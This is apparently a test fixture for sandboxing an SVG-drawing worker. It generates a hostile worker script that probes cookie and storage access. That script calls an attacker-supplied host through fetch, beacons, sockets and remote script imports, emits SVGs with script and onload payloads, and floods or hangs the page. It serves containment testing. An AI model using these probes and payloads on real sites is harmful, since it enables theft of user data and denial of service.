/** What somebody does who has taken over the script that draws: chosen by the description of the specification. */
export type Seizure = 'report' | 'elements' | 'attributes' | 'enormous' | 'flood' | 'silent';

export const hostileWorker = (attacker: string): string => `
const A = ${JSON.stringify(attacker)};
const tries = {
  document: () => document.cookie,
  window: () => window.parent.document.cookie,
  localStorage: () => localStorage.secret.length,
  indexedDB: () => new Promise((yes, no) => { const o = indexedDB.open('leak'); o.onsuccess = yes; o.onerror = () => no(o.error); }),
  cookieStore: async () => { if (!(await cookieStore.getAll()).length) throw new Error('none'); },
  fetch: () => fetch(A + '/fetch', { mode: 'no-cors' }),
  beacon: () => { if (!navigator.sendBeacon(A + '/beacon', 'x')) throw new Error('refused'); },
  xhr: () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open('GET', A + '/xhr'); x.onload = yes; x.onerror = no; x.send(); }),
  socket: () => new Promise((yes, no) => { const s = new WebSocket(A.replace('http', 'ws') + '/socket'); s.onopen = yes; s.onerror = no; }),
  events: () => new Promise((yes, no) => { const s = new EventSource(A + '/events'); s.onopen = yes; s.onerror = no; }),
  importScripts: () => importScripts(A + '/script.js'),
  import: () => import(A + '/module.js'),
  eval: () => (0, eval)('1'),
  Function: () => new Function('return 1')(),
  worker: () => new Promise((yes, no) => { const w = new Worker(A + '/worker.js'); w.onmessage = yes; w.onerror = no; }),
};
const svg = (inside, more = '') => '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="120" ' + more + '>' + inside + '</svg>';
const drawn = (text) => postMessage({ kind: 'drawn', svg: text, remarks: [] });
const acts = {
  report: async () => {
    try { const c = new BroadcastChannel('leak'); c.postMessage('overheard'); } catch {}
    const reached = [];
    for (const [name, attempt] of Object.entries(tries))
      try { await Promise.race([attempt(), new Promise((_, no) => setTimeout(() => no(new Error('silence')), 150))]); reached.push(name); } catch {}
    postMessage({ kind: 'failed', found: 'REACHED [' + reached + '] of ' + Object.keys(tries).length + ' as ' + self.origin });
  },
  elements: () => drawn(svg('<script>fetch("' + A + '/script")</' + 'script><foreignObject><img src="' + A + '/img"/></foreignObject>')),
  attributes: () => drawn(svg('<rect width="99" height="99" fill="url(' + A + '/fill)" style="background:url(' + A + '/style)" onclick="fetch(1)"/>', 'onload="fetch(\\'' + A + '/onload\\')"')),
  enormous: () => drawn('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="90000000"><rect width="9" height="9"/></svg>'),
  flood: () => { for (;;) postMessage({ kind: 'flood', filling: 'x'.repeat(1000) }); },
  silent: () => { for (;;); },
};
onmessage = ({ data }) => acts[JSON.parse(data.spec).description]();
postMessage({ kind: 'here' });
`;
